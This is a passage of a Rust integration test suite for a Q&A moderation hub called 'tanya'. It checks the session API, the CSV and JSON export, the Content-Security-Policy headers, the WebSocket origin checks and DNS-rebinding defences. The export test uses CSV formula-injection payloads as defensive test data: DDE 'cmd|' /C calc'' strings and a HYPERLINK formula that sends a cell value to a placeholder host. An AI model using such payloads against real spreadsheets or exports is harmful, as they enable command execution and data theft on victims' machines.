//! The HTTP API, the pages, the `/ws` Origin check and the `tanya` command line, black-box
//! against docs/protocol.md (HTTP, Transport, Operating).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use crate::common::*;
use futures_util::SinkExt;
use serde_json::{Value, json};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;

const CODE_ALPHABET: &str = "ABCDEFGHJKMNPQRSTUVWXYZ23456789";
const CSV_HEADER: &str = "id,created_at,updated_at,status,source,channel,name,outlet,to,text,original_text,reason,votes,merged_into,air_text";

async fn post_session(server: &TestServer, bearer: Option<&str>, body: &str) -> (u16, Value) {
    http_json("POST", &server.http("/api/sessions"), bearer, Some(body)).await
}

fn assert_error(status: u16, body: &Value, want_status: u16, code: &str) {
    assert_eq!(status, want_status, "{body}");
    assert_eq!(body["error"]["code"], code, "{body}");
    assert!(
        body["error"]["message"]
            .as_str()
            .is_some_and(|m| !m.is_empty()),
        "{body}"
    );
}

/// At least 128 random bits, URL-safe.
fn assert_key(k: &Value) {
    let k = k.as_str().unwrap_or_else(|| panic!("a key string: {k}"));
    assert!(
        k.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_'),
        "URL-safe: {k}"
    );
    let bits_per_char = if k.bytes().all(|b| b.is_ascii_hexdigit()) {
        4
    } else {
        6
    };
    assert!(k.len() * bits_per_char >= 128, "at least 128 bits: {k}");
}

fn assert_code(c: &Value) {
    let c = c.as_str().unwrap();
    assert_eq!(c.chars().count(), 6, "{c}");
    assert!(c.chars().all(|ch| CODE_ALPHABET.contains(ch)), "{c}");
}

/// Checks the shape `POST /api/sessions` and `tanya session create` print.
fn assert_session_shape(v: &Value, title: &str) {
    let sess = &v["session"];
    let id = sess["id"].as_str().expect("session.id");
    assert!(uuid::Uuid::parse_str(id).is_ok(), "a UUID: {id}");
    assert_eq!(sess["title"], title);
    assert_eq!(sess["status"], "open");
    assert!(sess["speakers"].is_array());
    assert_code(&v["code"]);
    assert_eq!(sess["code"], v["code"]);
    let code = v["code"].as_str().unwrap();
    let keys = &v["keys"];
    let mut seen = std::collections::BTreeSet::new();
    for k in ["moderator", "screen", "overlay", "press"] {
        assert_key(&keys[k]);
        assert!(
            seen.insert(keys[k].as_str().unwrap()),
            "keys differ: {keys}"
        );
    }
    let links = &v["links"];
    let link = |k: &str| {
        links[k]
            .as_str()
            .unwrap_or_else(|| panic!("links.{k}: {v}"))
    };
    let key = |k: &str| keys[k].as_str().unwrap();
    assert!(link("audience").ends_with(&format!("/j/{code}")), "{links}");
    assert!(
        link("press").ends_with(&format!("/j/{code}#p={}", key("press"))),
        "{links}"
    );
    assert!(
        link("moderator").ends_with(&format!("/m/{id}#k={}", key("moderator"))),
        "{links}"
    );
    assert!(
        link("screen").ends_with(&format!("/screen/{id}#k={}", key("screen"))),
        "{links}"
    );
    assert!(
        link("overlay").ends_with(&format!("/overlay/{id}#k={}", key("overlay"))),
        "{links}"
    );
    for k in ["audience", "press", "moderator", "screen", "overlay"] {
        assert!(link(k).starts_with("http"), "{links}");
    }
}

#[tokio::test]
async fn create_session_returns_session_code_keys_and_links() {
    let server = TestServer::start();
    let (st, v) = post_session(
        &server,
        Some(ADMIN),
        &json!({"title":"  Diskusi Wong Kito #12: Perizinan  ","speakers":[
            {"name":"Drs Ratu Dewa MSi","role":"Sekretaris Daerah"},
            {"id":"kadin","name":"Ir Rina","role":"Kepala Dinas"},
            {"name":"Budi","role":"Camat"}
        ]})
        .to_string(),
    )
    .await;
    assert_eq!(st, 201, "{v}");
    assert_session_shape(&v, "Diskusi Wong Kito #12: Perizinan");
    let sp = v["session"]["speakers"].as_array().unwrap();
    assert_eq!(sp.len(), 3);
    assert_eq!(sp[1]["id"], "kadin", "a given id is kept");
    assert_eq!(sp[0]["name"], "Drs Ratu Dewa MSi");
    assert_eq!(sp[0]["role"], "Sekretaris Daerah");
    let ids: std::collections::BTreeSet<&str> =
        sp.iter().map(|s| s["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), 3, "ids assigned by the hub are unique: {sp:?}");
    assert!(ids.iter().all(|i| !i.is_empty()));

    // Without speakers; the limits' edges are accepted.
    let (st, v) = post_session(&server, Some(ADMIN), r#"{"title":"T"}"#).await;
    assert_eq!(st, 201, "{v}");
    assert_eq!(v["session"]["speakers"], json!([]));
    let twenty: Vec<Value> = (0..20)
        .map(|i| json!({"name":format!("Pembicara {i}"),"role":"Narasumber"}))
        .collect();
    let (st, v) = post_session(
        &server,
        Some(ADMIN),
        &json!({"title":"é".repeat(200),"speakers":twenty}).to_string(),
    )
    .await;
    assert_eq!(st, 201, "200 characters and 20 speakers are allowed: {v}");
    assert_eq!(v["session"]["speakers"].as_array().unwrap().len(), 20);
}

#[tokio::test]
async fn admin_routes_need_the_admin_token() {
    let server = TestServer::start();
    let s = server.demo_session().await;
    let body = r#"{"title":"Tanpa izin"}"#;
    for bearer in [
        None,
        Some("wrong-token-0123456789"),
        Some(""),
        Some(&*s.moderator),
    ] {
        let (st, v) = post_session(&server, bearer, body).await;
        assert_error(st, &v, 401, "unauthorized");
        let (st, v) = http_json("GET", &server.http("/api/sessions"), bearer, None).await;
        assert_error(st, &v, 401, "unauthorized");
    }
    // Nothing was created.
    let (st, v) = http_json("GET", &server.http("/api/sessions"), Some(ADMIN), None).await;
    assert_eq!(st, 200);
    assert_eq!(v["sessions"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn bad_bodies_are_400_invalid_naming_the_field() {
    let server = TestServer::start();
    let cases: Vec<(String, Option<&str>)> = vec![
        ("{not json".to_string(), None),
        ("[]".to_string(), None),
        (r#"{"speakers":[]}"#.to_string(), Some("title")),
        (r#"{"title":42}"#.to_string(), Some("title")),
        (r#"{"title":"   "}"#.to_string(), Some("title")),
        (json!({"title":"x".repeat(201)}).to_string(), Some("title")),
        (
            json!({"title":"T","speakers":[{"name":"Tanpa Jabatan"}]}).to_string(),
            Some("role"),
        ),
        (
            json!({"title":"T","speakers":[{"role":"Tanpa Nama"}]}).to_string(),
            Some("name"),
        ),
        (
            json!({"title":"T","speakers":[{"name":"A","role":"x".repeat(101)}]}).to_string(),
            Some("role"),
        ),
        (
            json!({"title":"T","speakers":(0..21).map(|i| json!({"name":format!("P{i}"),"role":"R"})).collect::<Vec<_>>()})
                .to_string(),
            Some("speakers"),
        ),
        (json!({"title":"T","speakers":"A|B"}).to_string(), Some("speakers")),
    ];
    for (body, field) in cases {
        let (st, v) = post_session(&server, Some(ADMIN), &body).await;
        assert_error(st, &v, 400, "invalid");
        if let Some(f) = field {
            let msg = v["error"]["message"].as_str().unwrap();
            assert!(msg.contains(f), "{body}: the message names `{f}`: {msg}");
        }
    }
    let (st, v) = http_json("GET", &server.http("/api/sessions"), Some(ADMIN), None).await;
    assert_eq!(st, 200);
    assert_eq!(v["sessions"], json!([]), "nothing was created");
}

#[tokio::test]
async fn list_sessions_newest_first_as_post_returns_them() {
    let server = TestServer::start();
    let mut made = Vec::new();
    for t in ["Pertama", "Kedua", "Ketiga"] {
        made.push(server.create_session(t, json!([])).await);
    }
    let (st, v) = http_json("GET", &server.http("/api/sessions"), Some(ADMIN), None).await;
    assert_eq!(st, 200, "{v}");
    let list = v["sessions"].as_array().unwrap();
    let titles: Vec<&str> = list
        .iter()
        .map(|s| s["session"]["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles, ["Ketiga", "Kedua", "Pertama"], "newest first");
    for (got, want) in list.iter().zip(made.iter().rev()) {
        assert_eq!(got, want, "each as POST returns it");
    }
}

#[tokio::test]
async fn join_code_is_accepted_in_any_letter_case() {
    let server = TestServer::start();
    let s = server.demo_session().await;
    let lower = s.code.to_lowercase();
    let mixed: String = s
        .code
        .chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_lowercase()
            } else {
                c
            }
        })
        .collect();
    for code in [&lower, &mixed, &s.code] {
        let c = Client::connect(
            &server,
            json!({"type":"hello","role":"audience","session":code}),
        )
        .await;
        assert_eq!(c.welcome["session"]["id"], json!(s.id), "{code}");
        assert_eq!(c.welcome["session"]["code"], json!(s.code));
        let m = Client::connect(
            &server,
            json!({"type":"hello","role":"moderator","session":code,"key":s.moderator}),
        )
        .await;
        assert_eq!(m.welcome["role"], "moderator", "{code}");
    }
}

async fn export(
    server: &TestServer,
    s: &Session,
    query: &str,
    bearer: Option<&str>,
) -> (u16, Vec<(String, String)>, String) {
    http(
        "GET",
        &server.http(&format!("/api/sessions/{}/export{query}", s.id)),
        bearer,
        None,
    )
    .await
}

fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.as_str())
}

/// Answers with keys or questions are never cached (`Cache-Control: no-store`), and only the
/// pages' own files are served from /assets/ (not the README of web/).
#[tokio::test]
async fn answers_with_keys_or_questions_are_not_stored_and_only_page_files_are_served() {
    let server = TestServer::start();
    let s = server.demo_session().await;
    let body = r#"{"title":"Sesi uji cache"}"#;
    let created = http(
        "POST",
        &server.http("/api/sessions"),
        Some(ADMIN),
        Some(body),
    )
    .await;
    let overlay_key = s.overlay.clone();
    let answers = [
        ("POST /api/sessions", created),
        (
            "GET /api/sessions",
            http("GET", &server.http("/api/sessions"), Some(ADMIN), None).await,
        ),
        ("export json", export(&server, &s, "", Some(ADMIN)).await),
        (
            "export csv",
            export(&server, &s, "?format=csv", Some(ADMIN)).await,
        ),
        (
            "live.json",
            http(
                "GET",
                &server.http(&format!("/api/sessions/{}/live.json?k={overlay_key}", s.id)),
                None,
                None,
            )
            .await,
        ),
    ];
    for (what, (st, headers, body)) in &answers {
        assert!((200..300).contains(st), "{what}: {st} {body}");
        assert_eq!(header(headers, "cache-control"), Some("no-store"), "{what}");
    }
    let (st, _, _) = http("GET", &server.http("/assets/README.md"), None, None).await;
    assert_eq!(st, 404, "the README of web/ is not a page file");
    for f in [
        "/assets/shared/client.js",
        "/assets/shared/ui.css",
        "/assets/shared/icon.svg",
    ] {
        let (st, _, _) = http("GET", &server.http(f), None, None).await;
        assert_eq!(st, 200, "{f}");
    }
}

/// A spreadsheet never runs a cell of the export: text cells that start with `=`, `+`, `-`
/// or `@` come out with a leading `'` in the CSV (JSON keeps the text as it is), and what a
/// person cannot see (bidi overrides, zero-width and control characters) is never stored.
#[tokio::test]
async fn the_csv_export_runs_no_formula_and_invisible_characters_are_not_stored() {
    let server = TestServer::start_with(&[("TANYA_ASKS_PER_MINUTE", "100")]);
    let s = server.demo_session().await;
    let mut m = Client::moderator(&server, &s).await;
    let mut a = Client::audience(&server, &s).await;
    let formulas = [
        r#"=HYPERLINK("http://contoh.invalid/?"&B2,"klik")"#,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    let mut ids = Vec::new();
    for (i, f) in formulas.iter().enumerate() {
        let v = a
            .ok(json!({"type":"ask","ref":format!("f{i}"),"text":f,"name":"=1+1"}))
            .await;
        assert_eq!(v["question"]["text"], *f, "stored as asked");
        ids.push(v["question"]["id"].as_str().unwrap().to_string());
    }
    // Invisible characters: gone before the length check and the flags.
    let v = a
        .ok(json!({"type":"ask","ref":"bidi","text":"Jalan\u{202E}kosong\u{200B} an\u{200D}jing\u{0}","name":"\u{2066}Sari\u{2069}"}))
        .await;
    assert_eq!(v["question"]["text"], "Jalankosong anjing");
    assert_eq!(v["question"]["name"], "Sari");
    let id = v["question"]["id"].as_str().unwrap().to_string();
    let welcome = Client::moderator(&server, &s).await;
    let q = welcome.welcome["questions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|q| q["id"] == json!(id))
        .unwrap()
        .clone();
    assert_eq!(
        q["flags"],
        json!(["profanity"]),
        "flagged once cleaned: {q}"
    );
    let _ = m.call(json!({"type":"approve","question":id})).await;

    let (st, _, body) = export(&server, &s, "?format=csv", Some(ADMIN)).await;
    assert_eq!(st, 200, "{body}");
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(body.as_bytes());
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    for (f, id) in formulas.iter().zip(&ids) {
        let row = rows.iter().find(|r| r.get(0) == Some(id.as_str())).unwrap();
        assert_eq!(row.get(9), Some(format!("'{f}").as_str()), "text of {id}");
        assert_eq!(row.get(6), Some("'=1+1"), "name of {id}");
    }
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let (_, _, json_body) = export(&server, &s, "", Some(ADMIN)).await;
    let v: Value = serde_json::from_str(&json_body).unwrap();
    assert!(
        v["questions"]
            .as_array()
            .unwrap()
            .iter()
            .any(|q| q["text"] == formulas[0]),
        "JSON keeps the text as it is"
    );
}

#[tokio::test]
async fn export_json_and_csv() {
    let server = TestServer::start();
    let s = server.demo_session().await;
    let mut m = Client::moderator(&server, &s).await;
    let mut a = Client::audience(&server, &s).await;
    let mut b = Client::audience(&server, &s).await;
    let tricky = "Harga \"sembako\" naik, kenapa?\nBaris kedua, dengan koma; dan \"kutip\"";
    let v = a
        .ok(json!({"type":"ask","ref":"a1","text":tricky,"name":"Budi, S.T.","to":"s1"}))
        .await;
    let q1 = v["question"]["id"].as_str().unwrap().to_string();
    let q2 = a.ask("Pertanyaan yang akan ditolak").await;
    let v = m
        .ok(json!({"type":"enter","ref":"e1","text":"Lewat SMS","name":"Pak \"RT\"","channel":"sms"}))
        .await;
    let q3 = v["question"]["id"].as_str().unwrap().to_string();
    let q4 = b.ask("Duplikat, digabung").await;
    m.ok(json!({"type":"approve","question":q1})).await;
    m.ok(json!({"type":"edit","question":q3,"text":"Lewat SMS, disunting"}))
        .await;
    m.ok(json!({"type":"approve","question":q3})).await;
    m.ok(json!({"type":"reject","question":q2,"reason":"tidak relevan, \"maaf\""}))
        .await;
    b.ok(json!({"type":"vote","question":q1,"on":true})).await;
    a.ok(json!({"type":"vote","question":q1,"on":true})).await;
    m.ok(json!({"type":"approve","question":q4})).await;
    m.ok(json!({"type":"merge","question":q4,"into":q3})).await;

    // JSON (the default), by the admin token and by the moderator key.
    let fresh = Client::moderator(&server, &s).await;
    let mod_view: std::collections::BTreeMap<String, Value> = fresh.welcome["questions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|q| (q["id"].as_str().unwrap().to_string(), q.clone()))
        .collect();
    for (query, bearer) in [
        ("", ADMIN),
        ("?format=json", ADMIN),
        ("", s.moderator.as_str()),
    ] {
        let (st, headers, body) = export(&server, &s, query, Some(bearer)).await;
        assert_eq!(st, 200, "{body}");
        assert!(
            header(&headers, "content-type").is_some_and(|c| c.contains("json")),
            "{headers:?}"
        );
        let v: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(v["session"]["id"], json!(s.id));
        assert_eq!(v["session"]["code"], json!(s.code));
        let qs = v["questions"].as_array().unwrap();
        assert_eq!(qs.len(), 4);
        let got: std::collections::BTreeMap<String, Value> = qs
            .iter()
            .map(|q| (q["id"].as_str().unwrap().to_string(), q.clone()))
            .collect();
        assert_eq!(got, mod_view, "the moderator view");
        for q in qs {
            assert!(q["flags"].is_array(), "{q}");
            for k in ["original_text", "reason", "author", "banned"] {
                assert!(q.get(k).is_some(), "moderator view has `{k}`: {q}");
            }
        }
        assert_eq!(got[&q1]["text"], tricky);
        assert_eq!(got[&q1]["votes"], 2);
        assert_eq!(got[&q3]["original_text"], "Lewat SMS");
        assert!(
            got[&q3]["author"].is_null(),
            "an operator entry has no author"
        );
        assert_eq!(got[&q4]["merged_into"], json!(q3));
    }

    // CSV.
    let (st, headers, body) = export(&server, &s, "?format=csv", Some(ADMIN)).await;
    assert_eq!(st, 200, "{body}");
    assert!(
        header(&headers, "content-type").is_some_and(|c| c.starts_with("text/csv")),
        "{headers:?}"
    );
    let first = body.split(['\r', '\n']).next().unwrap();
    assert_eq!(first, CSV_HEADER, "exactly the header row");
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(body.as_bytes());
    let cols: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 4, "one row per question:\n{body}");
    for row in &rows {
        let field = |c: &str| row.get(cols.iter().position(|x| x == c).unwrap()).unwrap();
        let q = &mod_view[field("id")];
        let cell = |v: &Value| match v {
            Value::Null => String::new(),
            Value::String(s) => s.clone(),
            other => other.to_string(),
        };
        for c in [
            "created_at",
            "updated_at",
            "status",
            "source",
            "channel",
            "name",
            "outlet",
            "to",
            "text",
            "original_text",
            "reason",
            "votes",
            "merged_into",
        ] {
            assert_eq!(field(c), cell(&q[c]), "column {c} of {}", field("id"));
        }
    }
    let row1 = rows.iter().find(|r| r.get(0) == Some(q1.as_str())).unwrap();
    assert_eq!(
        row1.get(9),
        Some(tricky),
        "text with commas, quotes and newlines round-trips"
    );
    assert_eq!(row1.get(6), Some("Budi, S.T."));
    assert_eq!(row1.get(12), Some("2"));

    // CSV by the moderator key.
    let (st, _, body2) = export(&server, &s, "?format=csv", Some(&s.moderator)).await;
    assert_eq!(st, 200);
    assert_eq!(body2, body);

    // Unauthorized, and a bad format.
    for bearer in [
        None,
        Some("wrong"),
        Some(s.screen.as_str()),
        Some(s.overlay.as_str()),
    ] {
        for q in ["", "?format=csv"] {
            let (st, _, body) = export(&server, &s, q, bearer).await;
            let v: Value = serde_json::from_str(&body).unwrap_or(Value::String(body));
            assert_error(st, &v, 401, "unauthorized");
        }
    }
    let (st, _, body) = export(&server, &s, "?format=xml", Some(ADMIN)).await;
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_error(st, &v, 400, "invalid");
    // A moderator key of one session does not export another.
    let other = server.demo_session().await;
    let (st, _, body) = export(&server, &other, "", Some(&s.moderator)).await;
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_error(st, &v, 401, "unauthorized");
}

#[tokio::test]
async fn healthz_metrics_and_unknown_routes() {
    let server = TestServer::start();
    let (st, _, _) = http("GET", &server.http("/healthz"), None, None).await;
    assert_eq!(st, 200);

    // Make both metrics exist: a socket joined and a command ran.
    let s = server.demo_session().await;
    let mut m = Client::moderator(&server, &s).await;
    let mut phone = Client::audience(&server, &s).await;
    let ok = m
        .ok(json!({"type":"enter","ref":"r","text":"Uji metrik","channel":"room"}))
        .await;
    // A public event reaches the phone through the phone lane, which times it.
    let q = id_of(&ok);
    m.ok(json!({"type":"approve","question":q})).await;
    let (v, _) = phone.until("question").await;
    assert_eq!(v["question"]["id"], q);
    let (st, headers, body) = http("GET", &server.http("/metrics"), None, None).await;
    assert_eq!(st, 200, "{body}");
    assert!(
        header(&headers, "content-type").is_some_and(|c| c.starts_with("text/plain")),
        "{headers:?}"
    );
    assert!(body.contains("tanya_commands_total"), "{body}");
    assert!(body.contains("tanya_connections"), "{body}");
    assert!(body.contains("tanya_fanout_seconds"), "{body}");
    assert!(body.contains("tanya_phone_lane_seconds"), "{body}");
    assert!(
        body.lines()
            .any(|l| l.starts_with("# TYPE tanya_commands_total")),
        "Prometheus text format: {body}"
    );
    let sample = body
        .lines()
        .find(|l| l.starts_with("tanya_commands_total{"))
        .expect("a sample line");
    assert!(
        sample.rsplit(' ').next().unwrap().parse::<f64>().is_ok(),
        "{sample}"
    );

    for path in [
        "/nope",
        "/api/nope",
        "/api/sessions/not-a-uuid/export",
        "/j",
    ] {
        let (st, v) = http_json("GET", &server.http(path), Some(ADMIN), None).await;
        assert_error(st, &v, 404, "not_found");
    }
    let (st, v) = http_json(
        "GET",
        &server.http(&format!("/api/sessions/{}/export", uuid::Uuid::new_v4())),
        Some(ADMIN),
        None,
    )
    .await;
    assert_error(st, &v, 404, "not_found");
}

fn script_src(csp: &str) -> Option<String> {
    let directives: Vec<&str> = csp.split(';').map(str::trim).collect();
    directives
        .iter()
        .find(|d| d.starts_with("script-src ") || *d == &"script-src")
        .or_else(|| directives.iter().find(|d| d.starts_with("default-src")))
        .map(|d| d.to_string())
}

#[tokio::test]
async fn pages_are_html_with_a_strict_csp() {
    let server = TestServer::start();
    let s = server.demo_session().await;
    for path in [
        "/".to_string(),
        format!("/j/{}", s.code),
        format!("/m/{}", s.id),
        format!("/screen/{}", s.id),
        format!("/overlay/{}", s.id),
        "/admin".to_string(),
    ] {
        let (st, headers, body) = http("GET", &server.http(&path), None, None).await;
        assert_eq!(st, 200, "{path}");
        let ct = header(&headers, "content-type").unwrap_or("");
        assert!(ct.starts_with("text/html"), "{path}: {ct}");
        assert!(body.to_ascii_lowercase().contains("<html"), "{path}");
        let csp = header(&headers, "content-security-policy")
            .unwrap_or_else(|| panic!("{path}: no Content-Security-Policy: {headers:?}"));
        let ss = script_src(csp).unwrap_or_else(|| panic!("{path}: no script-src: {csp}"));
        assert!(!ss.contains("'unsafe-inline'"), "{path}: {ss}");
        assert!(!ss.contains('*'), "{path}: {ss}");
        // Sockets only to the page's own origin, and no page may frame it.
        let directive = |name: &str| {
            csp.split(';')
                .map(str::trim)
                .find(|d| d.starts_with(name))
                .unwrap_or_else(|| panic!("{path}: no {name}: {csp}"))
                .to_string()
        };
        assert_eq!(directive("connect-src"), "connect-src 'self'", "{path}");
        assert_eq!(
            directive("frame-ancestors"),
            "frame-ancestors 'none'",
            "{path}"
        );
    }
}

/// Opens `/ws` with an `Origin` header; returns the HTTP status of the answer.
async fn ws_status(server: &TestServer, origin: Option<&str>) -> u16 {
    let mut req = server.ws_url().into_client_request().unwrap();
    if let Some(o) = origin {
        req.headers_mut().insert("Origin", o.parse().unwrap());
    }
    match tokio_tungstenite::connect_async(req).await {
        Ok((mut ws, resp)) => {
            let _ = ws.send(Message::Close(None)).await;
            resp.status().as_u16()
        }
        Err(tokio_tungstenite::tungstenite::Error::Http(resp)) => resp.status().as_u16(),
        Err(e) => panic!("{e}"),
    }
}

/// A request as a browser at `host` sends it (raw, so the `Host` header is ours).
async fn status_for_host(server: &TestServer, path: &str, host: &str, extra: &str) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::TcpStream::connect(&server.addr).await.unwrap();
    let req = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n");
    s.write_all(req.as_bytes()).await.unwrap();
    let mut buf = vec![0u8; 512];
    let n = tokio::time::timeout(Duration::from_secs(10), s.read(&mut buf))
        .await
        .unwrap()
        .unwrap();
    let head = String::from_utf8_lossy(&buf[..n]).to_string();
    head.split(' ').nth(1).unwrap().parse().unwrap()
}

/// DNS rebinding: a page at a foreign name pointed at the hub's address sends that name as
/// `Host` (and as `Origin`, which then matches). The hub answers only to IP literals,
/// `localhost`, the hosts of `public_url` and `allowed_origins`, and `allowed_hosts`.
#[tokio::test]
async fn a_foreign_host_name_is_refused_on_every_route() {
    let server = TestServer::start_with(&[
        ("TANYA_PUBLIC_URL", "https://tanya.palembang.go.id"),
        ("TANYA_ALLOWED_HOSTS", "laptop-humas.local"),
    ]);
    let upgrade = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
    let evil = "rebind.evil.example";
    let port = server.addr.rsplit(':').next().unwrap().to_string();
    for path in ["/healthz", "/", "/api/sessions", "/assets/shared/client.js"] {
        assert_eq!(
            status_for_host(&server, path, evil, "").await,
            403,
            "{path}"
        );
        assert_eq!(
            status_for_host(&server, path, &format!("{evil}:{port}"), "").await,
            403,
            "{path} with a port"
        );
    }
    let rebinding_upgrade = format!("Origin: http://{evil}\r\n{upgrade}");
    assert_eq!(
        status_for_host(&server, "/ws", evil, &rebinding_upgrade).await,
        403,
        "the upgrade of a rebinding page"
    );
    // The names the hub does answer to.
    for host in [
        server.addr.to_string(),
        format!("localhost:{port}"),
        "tanya.palembang.go.id".to_string(),
        "Laptop-Humas.local:8080".to_string(),
    ] {
        assert_eq!(
            status_for_host(&server, "/healthz", &host, "").await,
            200,
            "{host}"
        );
    }
    let own = format!("Origin: http://{}\r\n{upgrade}", server.addr);
    assert_eq!(
        status_for_host(&server, "/ws", &server.addr.to_string(), &own).await,
        101
    );
}

#[tokio::test]
async fn ws_upgrade_checks_the_origin() {
    let allowed = "https://studio.example.org";
    let server = TestServer::start_with(&[(
        "TANYA_ALLOWED_ORIGINS",
        &format!("https://other.example, {allowed}"),
    )]);
    let own = format!("http://{}", server.addr);
    assert_eq!(ws_status(&server, Some("https://evil.example")).await, 403);
    assert_eq!(
        ws_status(&server, Some("http://studio.example.org")).await,
        403
    );
    assert_eq!(ws_status(&server, Some("null")).await, 403);
    assert_eq!(ws_status(&server, Some(allowed)).await, 101);
    assert_eq!(ws_status(&server, Some("https://other.example")).await, 101);
    assert_eq!(
        ws_status(&server, Some(&own)).await,
        101,
        "the hub's own origin"
    );
    assert_eq!(
        ws_status(&server, None).await,
        101,
        "no Origin (not a browser)"
    );

    // An allowed origin's socket speaks the protocol.
    let s = server.demo_session().await;
    let mut req = server.ws_url().into_client_request().unwrap();
    req.headers_mut().insert("Origin", allowed.parse().unwrap());
    let (mut ws, _) = tokio_tungstenite::connect_async(req).await.unwrap();
    ws.send(Message::text(
        json!({"type":"hello","role":"audience","session":s.code}).to_string(),
    ))
    .await
    .unwrap();
    let w = next_json(&mut ws).await;
    assert_eq!(w["type"], "welcome", "{w}");

    // Without TANYA_ALLOWED_ORIGINS a foreign origin is refused too.
    let plain = TestServer::start();
    assert_eq!(ws_status(&plain, Some(allowed)).await, 403);
}

fn tanya() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_tanya"));
    for k in [
        "TANYA_LISTEN",
        "TANYA_DATABASE",
        "TANYA_ADMIN_TOKEN",
        "TANYA_PUBLIC_URL",
        "TANYA_ALLOWED_ORIGINS",
        "TANYA_ALLOWED_HOSTS",
        "TANYA_ASKS_PER_MINUTE",
        "TANYA_VOTES_PER_MINUTE",
        "TANYA_METRICS_ALLOW",
    ] {
        c.env_remove(k);
    }
    c.env("RUST_LOG", "warn");
    c
}

/// Runs a command that must end on its own within 10 s.
fn run(mut cmd: Command) -> std::process::Output {
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("run tanya");
    let t = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return child.wait_with_output().unwrap();
        }
        if t.elapsed() > Duration::from_secs(10) {
            let _ = child.kill();
            let out = child.wait_with_output().unwrap();
            panic!(
                "tanya did not exit within 10 s: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[tokio::test]
async fn cli_session_create_prints_the_post_shape_and_the_running_hub_sees_it() {
    let server = TestServer::start();
    let mut cmd = tanya();
    cmd.args([
        "session",
        "create",
        "--title",
        "Dibuat dari baris perintah",
        "--speaker",
        "Drs Ratu Dewa MSi|Sekretaris Daerah",
        "--speaker",
        "A|B",
    ])
    .current_dir(server.dir.path())
    .env("TANYA_DATABASE", crate::common::database_of(&server));
    let out = tokio::task::spawn_blocking(move || run(cmd)).await.unwrap();
    assert!(
        out.status.success(),
        "{:?}: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is JSON ({e}): {}",
            String::from_utf8_lossy(&out.stdout)
        )
    });
    assert_session_shape(&v, "Dibuat dari baris perintah");
    let sp = v["session"]["speakers"].as_array().unwrap();
    assert_eq!(sp.len(), 2);
    assert_eq!(sp[0]["name"], "Drs Ratu Dewa MSi");
    assert_eq!(sp[0]["role"], "Sekretaris Daerah");
    assert_eq!(sp[1]["name"], "A");
    assert_eq!(sp[1]["role"], "B");
    assert!(
        sp.iter()
            .all(|s| s["id"].as_str().is_some_and(|i| !i.is_empty()))
    );

    // The running hub knows it at once, by code and with its keys.
    let s = Session::from_json(&v);
    let c = Client::audience(&server, &s).await;
    assert_eq!(c.welcome["session"]["title"], "Dibuat dari baris perintah");
    assert_eq!(c.welcome["session"]["speakers"], v["session"]["speakers"]);
    let mut m = Client::moderator(&server, &s).await;
    m.ok(json!({"type":"enter","ref":"r","text":"Bisa dimoderasi","channel":"room"}))
        .await;
    let (st, list) = http_json("GET", &server.http("/api/sessions"), Some(ADMIN), None).await;
    assert_eq!(st, 200);
    assert_eq!(list["sessions"][0]["session"]["id"], v["session"]["id"]);
    assert_eq!(list["sessions"][0]["keys"], v["keys"]);

    // A speaker without a role is refused.
    let mut cmd = tanya();
    cmd.args([
        "session",
        "create",
        "--title",
        "T",
        "--speaker",
        "Tanpa Jabatan",
    ])
    .current_dir(server.dir.path())
    .env("TANYA_DATABASE", crate::common::database_of(&server));
    let out = tokio::task::spawn_blocking(move || run(cmd)).await.unwrap();
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("speaker"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[tokio::test]
async fn a_bad_setting_exits_with_code_2_naming_the_key() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("t.db").display());

    let mut cmd = tanya();
    cmd.arg("serve")
        .current_dir(dir.path())
        .env("TANYA_LISTEN", "nope")
        .env("TANYA_DATABASE", &db);
    let out = tokio::task::spawn_blocking(move || run(cmd)).await.unwrap();
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert_eq!(out.status.code(), Some(2), "{err}");
